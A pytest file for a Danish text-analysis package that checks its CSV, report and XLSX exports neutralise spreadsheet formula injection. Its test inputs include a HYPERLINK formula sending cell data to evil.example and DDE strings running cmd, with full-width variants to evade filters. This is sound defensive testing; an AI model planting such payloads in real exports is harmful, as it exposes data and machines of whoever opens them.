"""CSV formula injection: answers a spreadsheet would run ("=HYPERLINK(…)", "+cmd|…", "@SUM(…)")
are neutralised (a leading ') in every CSV dialect and in the report's tables; XLSX cells stay text."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "\uff1dHYPERLINK(\"http://evil.example\")",  # full-width ＝, ＋, －, ＠
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3+cmd|' /C calc'!A0",
    "\uff20SUM(1+1)",
]
HARMLESS = ["-3", "+45", "-0,25", "12", "-", "Vores IT-systemer taler ikke sammen"]


def is_formula(cell: str) -> bool:
    from hoi_nlp.io import is_formula_like

    return is_formula_like(cell)


def frame() -> pd.DataFrame:
    texts = ATTACKS + HARMLESS
    return pd.DataFrame({"segment_id": [f"s{i}" for i in range(len(texts))], "text": texts,
                         "confidence": [0.5] * len(texts), "=SUM(A1)": ["x"] * len(texts)})


@pytest.mark.parametrize("dialect", ["excel", "excel-da"])
def test_no_csv_cell_is_a_formula(tmp_path, dialect):
    from hoi_nlp.export.dataset import write_csv

    path = tmp_path / "out.csv"
    write_csv(frame(), path, dialect=dialect)
    text = path.read_bytes().decode("utf-8-sig")  # no newline translation: "\r" stays
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if dialect == "excel-da" else ","))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if is_formula(c)]
    by_id = {row[0]: row[1] for row in rows[1:]}
    assert [by_id[f"s{i}"] for i in range(len(ATTACKS))] == ["'" + a for a in ATTACKS]
    assert [by_id[f"s{i}"] for i in range(len(ATTACKS), len(ATTACKS) + len(HARMLESS))] == HARMLESS
    assert rows[0][3] == "'=SUM(A1)"  # a column name from the study (a question) too


@pytest.mark.parametrize("fmt", ["md", "html", "docx"])
def test_report_tables_hold_no_formula(tmp_path, fmt):
    from hoi_nlp.export.report.blocks import Report
    from hoi_nlp.export.report.render import write_report

    report = Report(title="Rapport", subtitle="test")
    rows = tuple((a, "-") for a in ATTACKS + HARMLESS)
    report.add("table", "Tabel", header=("Kode", "=HEADER()"), rows=rows)
    path = write_report(report, tmp_path / f"rapport.{fmt}", fmt=fmt)
    if fmt == "docx":
        import docx

        cells = [cell.text for t in docx.Document(str(path)).tables for row in t.rows for cell in row.cells]
    elif fmt == "html":
        import html
        import re

        cells = [html.unescape(c) for c in re.findall(r"<t[dh]>(.*?)</t[dh]>", path.read_text("utf-8"), re.S)]
    else:
        cells = [c.strip() for line in path.read_text("utf-8").splitlines()
                 if line.startswith("|") and not line.startswith("|-") for c in line.strip("|").split(" | ")]
    cells = [c.strip(" ") if fmt == "md" else c for c in cells]
    assert not [c for c in cells if is_formula(c)], cells
    assert "'=HYPERLINK(" in "".join(cells) and "-" in cells and "-0,25" in cells


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    from hoi_nlp.export.dataset import write_xlsx

    path = tmp_path / "out.xlsx"
    write_xlsx(path, {"Segmenter": frame()})
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element at all
    import openpyxl

    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert all(isinstance(r[1], str) for r in rows[1:]) and rows[1][1] == ATTACKS[0]


def test_the_themes_table_holds_no_formula(tmp_path):
    from hoi_nlp.coding.topics.io import save_themes
    from tests.security.test_themes_privacy import tiny_themes_result

    result = tiny_themes_result(quote='=HYPERLINK("http://evil.example")', label="@SUM(1)")
    paths = save_themes(result, tmp_path)
    table = next(p for p in paths if p.suffix == ".csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(table, newline=""), delimiter=";") for c in row]
    assert not [c for c in cells if is_formula(c)] and "'=HYPERLINK(" in table
